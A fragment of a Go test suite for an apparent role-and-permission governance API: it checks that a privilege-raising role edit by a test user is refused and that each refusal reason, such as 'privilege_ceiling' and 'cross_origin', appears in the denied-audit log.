		w.refused(t, http.StatusForbidden, "role_in_use", func() (int, string) {
			return w.call(w.eve, http.MethodPatch, "/governance/v1/roles/viewer-lite", `{"permissions":["job:view:own","tenant:manage"]}`, "If-Match", "*")
		})
	})

	t.Run("every refusal is audited as denied", func(t *testing.T) {
		codes := map[string]int{}
		page, err := audit.FileSource{Dir: filepath.Join(caddy.AppDataDir(), "qgov", "audit")}.Query(ctx,
			audit.Filter{Outcomes: []string{audit.Denied}, From: w.started}, "", audit.MaxPageSize)
		require.NoError(t, err)
		for _, r := range page.Logs {
			codes[r.Code]++
		}
		for _, c := range []string{"privilege_ceiling", "secret_not_allowed", "host_not_allowed", "not_owner", "invalid_json", "role_in_use", "scope_not_granted",
			"unsupported_content_encoding", "limit_exceeded", "job_size_unknown", "invalid_return_to", "cross_origin", "permission_denied"} {
			assert.NotZero(t, codes[c], "no denial audited with %s", c)
		}
	})
}
